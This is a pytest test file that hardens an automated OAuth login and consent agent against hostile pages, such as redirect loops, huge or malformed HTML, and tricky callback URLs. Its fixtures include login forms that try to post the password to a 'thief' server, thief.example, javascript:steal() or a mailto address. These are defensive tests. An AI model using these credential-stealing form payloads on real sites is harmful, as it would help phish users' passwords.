"""Pages that mean harm: the visit ends in bounded time, and nothing goes where it does not belong."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from time import monotonic

import pytest

from conformance.roles.user_agent.visit import Delivery, Landing, PageKind, Wish
from conformance.wire.exchange import FailureKind

from .conftest import Begin
from .pages import Tables
from .site import CALLBACK, PASSWORD, USER_CODE, Asked, Site, Told, page, sent_to, serving

LOGIN = "<input name=username><input type=password name=password><button>Log in</button>"


@dataclass
class Says(Site):
    """One answer for every path."""

    says: Callable[[Asked], Told] = lambda _asked: page("")

    def answer(self, asked: Asked) -> Told:
        return self.says(asked)


def saying(body: str, title: str = "") -> Says:
    return Says(says=lambda _asked: page(body, title))


def test_a_redirect_loop_ends(begin: Begin) -> None:
    play = begin(Says(says=lambda asked: sent_to("/b" if asked.path == "/a" else "/a")))
    visit = play.visit()
    assert (visit.landing, visit.stuck) == (Landing.NOWHERE, "more than 10 redirects in a row")
    assert len(play.site.heard) == 11


def test_a_login_that_never_ends_is_left(begin: Begin) -> None:
    play = begin(saying(f"<form method=post action=/login>{LOGIN}</form>"))
    visit = play.visit()
    assert "asks for the login again: the server refused what was filled in" in (visit.stuck or "")
    assert play.site.paths == ["GET /authorize", "POST /login"]


def test_a_consent_that_never_ends_is_left(begin: Begin) -> None:
    play = begin(saying("<form method=post action=/c><button>Allow</button><button>Deny</button></form>"))
    visit = play.visit()
    assert (visit.landing, visit.decided) == (Landing.PAGE, True)
    assert "came again after the person had pressed the same button" in (visit.stuck or "")
    assert len(play.site.heard) <= 4


def test_pages_that_always_ask_something_new_are_left(begin: Begin) -> None:
    count = iter(range(1000))
    play = begin(Says(says=lambda _: page(f"<form action=/{next(count)}><button>Continue</button></form>")))
    visit = play.visit()
    assert "comes after 12 steps; a person gives up here" in (visit.stuck or "")
    assert len(play.site.heard) == 13


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("<form action=/x><input name=a><button>x</button></form>" * 1000, id="1000-forms"),
        pytest.param("<form action=/x>" + "<input name=a><button>x</button>" * 9000, id="18000-controls"),
        pytest.param("<div>" * 20_000 + LOGIN, id="deep"),
        pytest.param("<form><div><table><tr><td><b><i>" * 4_000, id="deep-mixture"),
        pytest.param("<label for=a>" * 15_000, id="labels"),
        pytest.param("<a href=/x>Deny" * 15_000, id="links"),
        pytest.param("<script>location='" + "\\" * 500_000, id="backslashes"),
        pytest.param("<script>" + "location.href='" * 60_000, id="open-strings"),
        pytest.param("<script>" + "window . " * 100_000, id="windows"),
        pytest.param("<meta http-equiv=refresh content='0;" + " " * 400_000 + "'>", id="blanks"),
        pytest.param("<input type=hidden value=kX8token name=t>" * 20_000, id="hidden-fields"),
        pytest.param("<form id=f></form>" + "<button form=f>Go</button>" * 30_000, id="buttons-from-afar"),
    ],
)
def test_monstrous_pages_end_in_bounded_time(begin: Begin, html: str) -> None:
    play = begin(Says(says=lambda _: Told(html)))
    began = monotonic()
    visit = play.visit()
    assert monotonic() - began < 20
    assert visit.landing in (Landing.PAGE, Landing.NOWHERE)
    assert len(visit.stuck or "") < 20_000
    assert not any(PASSWORD in str(asked) for asked in play.site.heard)


def test_a_page_of_two_megabytes_is_not_read(begin: Begin) -> None:
    visit = begin(Says(says=lambda _: Told("<div>" * 400_000))).visit()
    assert visit.landing is Landing.NOWHERE


@pytest.mark.parametrize(
    "body",
    [
        b"\xff\xfe<form>\x00\x80<input type=password name=\xc3\x28><button>\xed\xa0\x80</button></form>",
        b"<html><head><title>\x1b[31m\xe2\x80\xae</title></head>\x00\x01",
        b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body/></html>",
        b"<![CDATA[<!DOCTYPE<!--",
        b"http://127.0.0.1/looks-like-an-address",
        b"{}",
        b"",
    ],
)
@pytest.mark.parametrize("charset", ["utf-8", "utf-16", "punycode"])
def test_octets_that_are_no_text_are_read_as_well_as_can_be(begin: Begin, body: bytes, charset: str) -> None:
    kind = ("Content-Type", f"text/html; charset={charset}")
    visit = begin(Says(says=lambda _: Told(body, 200, (kind,)))).visit()
    assert visit.landing is Landing.PAGE
    assert "\x1b" not in (visit.stuck or "")


@pytest.mark.parametrize(
    "form",
    [
        "<form method=post action='http://127.0.0.1:{port}/steal'>" + LOGIN,
        "<form method=post action='//127.0.0.1:{port}/steal'>" + LOGIN,
        "<base href='http://127.0.0.1:{port}/'><form method=post action='steal'>" + LOGIN,
        "<base href='http://127.0.0.1:{port}/'><form action=x>" + LOGIN.replace("<button", "<button formaction=/steal"),
        "<form method=post action='http://127.0.0.1:{port}@localhost/'>" + LOGIN,
        "<form method=post action='http:\\\\127.0.0.1:{port}\\'>" + LOGIN,
        "<form method=post action=' \thttp://127.0.0.1:{port}/'>" + LOGIN,
        "<form method=post action='javascript:steal()'>" + LOGIN,
        "<form method=post action='mailto:thief@thief.example'>" + LOGIN,
        "<form method=dialog action='https://thief.example'>" + LOGIN,
    ],
)
def test_the_password_goes_to_no_other_host(begin: Begin, form: str) -> None:
    with serving(Site()) as thief:
        play = begin(saying(form.replace("{port}", thief.url.rpartition(":")[2]), "Log in"))
        visit = play.visit()
        assert thief.heard == []
    assert (visit.landing, visit.decided) == (Landing.PAGE, False)
    assert "which is no address that the target file names. Nothing was filled in." in (visit.stuck or "")
    assert play.site.paths == ["GET /authorize"]
    assert not any(PASSWORD.encode() in exchange.request.body for exchange in play.recorder.exchanges)


@pytest.mark.parametrize("delivery", ["redirect", "meta-refresh", "script", "link"])
def test_the_callback_is_recognised_and_never_contacted(begin: Begin, delivery: str) -> None:
    with serving(Site()) as client:
        url = f"{client.url}/cb?code=kX8-code#x=%C3%A9"
        answers = {
            "redirect": sent_to(url),
            "meta-refresh": page(f'<meta http-equiv="Refresh" content="0; URL=\'{url}\'">'),
            "script": page(f"<script>window.location.replace('{url.replace('/', chr(92) + '/')}')</script>"),
            "link": page(f"<a href='{url}'>Go back to Printer</a>"),
        }
        play = begin(Says(says=lambda _: answers[delivery]))
        visit = play.visit(callbacks=[f"{client.url}/cb"])
        assert client.heard == []
    assert (visit.landing, visit.delivery, visit.url) == (Landing.CALLBACK, Delivery(delivery), url)
    assert visit.stuck is None
    assert "kX8-code" not in play.vault.redact("kX8-code")


@pytest.mark.parametrize("at", ["/cb", "/cb?a=b", "//{host}/cb", "http://{host}/cb", "cb?x", "HTTP://{host}/cb#f"])
def test_a_callback_on_the_servers_own_host_is_not_contacted_either(begin: Begin, at: str) -> None:
    play = begin(Says())
    host = play.site.url.removeprefix("http://")
    play.site.says = lambda _: sent_to(at.replace("{host}", host))  # type: ignore[attr-defined]
    visit = play.visit(callbacks=[f"{play.site.url}/cb"])
    assert visit.landing is Landing.CALLBACK
    assert (visit.url or "").lower().startswith(f"http://{host}/cb")
    assert play.site.paths == ["GET /authorize"]


@pytest.mark.parametrize(
    ("location", "landing"),
    [
        ("https://thief.example/?code=1#t", Landing.ELSEWHERE),
        ("https://printer.example.thief.example/cb", Landing.ELSEWHERE),
        ("https://printer.example:444/cb", Landing.ELSEWHERE),
        ("https://printer.example@thief.example/cb", Landing.ELSEWHERE),
        ("https://thief.example@printer.example/cb", Landing.ELSEWHERE),
        ("https://printer.example/cb/", Landing.ELSEWHERE),
        ("http://printer.example/cb", Landing.ELSEWHERE),
        ("javascript:alert(1)", Landing.ELSEWHERE),
        ("data:text/html,x", Landing.ELSEWHERE),
        ("https://[half", Landing.ELSEWHERE),
        ("https://\xff\x01/", Landing.ELSEWHERE),
        ("https://printer.example:443/cb#a=b c", Landing.CALLBACK),
        ("HTTPS://Printer.Example/cb?\xc3\xa9", Landing.CALLBACK),
    ],
)
def test_redirects_are_told_exactly_as_they_were_written(begin: Begin, location: str, landing: Landing) -> None:
    visit = begin(Says(says=lambda _: sent_to(location))).visit()
    assert (visit.landing, visit.url, visit.delivery) == (landing, location, Delivery.REDIRECT)


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_every_redirect_is_one(begin: Begin, status: int) -> None:
    visit = begin(Says(says=lambda _: sent_to(CALLBACK, status=status))).visit()
    assert (visit.landing, visit.url) == (Landing.CALLBACK, CALLBACK)


@pytest.mark.parametrize("url", [CALLBACK, "https://thief.example/", "javascript:0", "http://[half"])
def test_only_the_server_is_opened(begin: Begin, url: str) -> None:
    play = begin(Site())
    visit = play.visit(url=url)
    assert (visit.landing, visit.exchanges) == (Landing.NOWHERE, ("web_server-1",))
    assert visit.exchange.failure is not None
    assert visit.exchange.failure.kind is FailureKind.NOT_ALLOWED


def test_a_page_that_sends_people_elsewhere_is_told(begin: Begin) -> None:
    visit = begin(saying('<meta http-equiv=refresh content="3;url=https://thief.example/">Wait')).visit(Wish.LOOK)
    assert (visit.landing, visit.delivery) == (Landing.ELSEWHERE, Delivery.META_REFRESH)
    assert visit.url == "https://thief.example/"


def test_no_answer_is_nowhere(begin: Begin) -> None:
    visit = begin(Site()).visit(url="http://127.0.0.1:1/authorize")
    assert (visit.landing, visit.pages) == (Landing.NOWHERE, ())
    assert "is not named in the target file, so nothing was sent" in (visit.stuck or "")


def test_an_error_page_ends_the_visit(begin: Begin) -> None:
    form = "<form method=post><input name=q><button>Allow</button></form>"
    visit = begin(Says(says=lambda _: page(form + "No such client", "Error", 400))).visit()
    assert (visit.landing, visit.decided) == (Landing.PAGE, False)
    assert "The page 'Error' at http://127.0.0.1:" in (visit.stuck or "")
    assert "is an error page (status 400)" in (visit.stuck or "")


def test_cookies_are_bounded(begin: Begin) -> None:
    play = begin(Says())
    many = tuple(("Set-Cookie", f"c{number}={'v' * 500}") for number in range(90))
    play.site.says = lambda _: sent_to("/again", ("Set-Cookie", "long=" + "x" * 9000), *many)  # type: ignore[attr-defined]
    assert play.visit().landing is Landing.NOWHERE
    assert max(len(asked.headers.get("Cookie", "")) for asked in play.site.heard) < 30_000


def test_a_user_code_is_filled_in_and_approved(begin: Begin) -> None:
    class Device(Tables):
        def at_device(self, asked: Asked) -> Told:
            if asked.method == "POST":
                return page("<form method=post action=/ok><button>Allow</button><button name=no>No</button></form>")
            return page("<form method=post><label>Code <input name=c></label><button>Next</button></form>")

        def at_ok(self, _asked: Asked) -> Told:
            return page("All set. <form action=/out><button>Log out</button></form>", "Done")

    play = begin(Device())
    visit = play.visit(path="/device", user_code=USER_CODE, callbacks=[])
    assert (visit.landing, visit.decided, visit.stuck) == (Landing.PAGE, True, None)
    assert [seen.kind for seen in visit.pages] == [PageKind.USER_CODE, PageKind.CONSENT, PageKind.PLAIN]
    assert play.site.heard[1].form == {"c": USER_CODE}
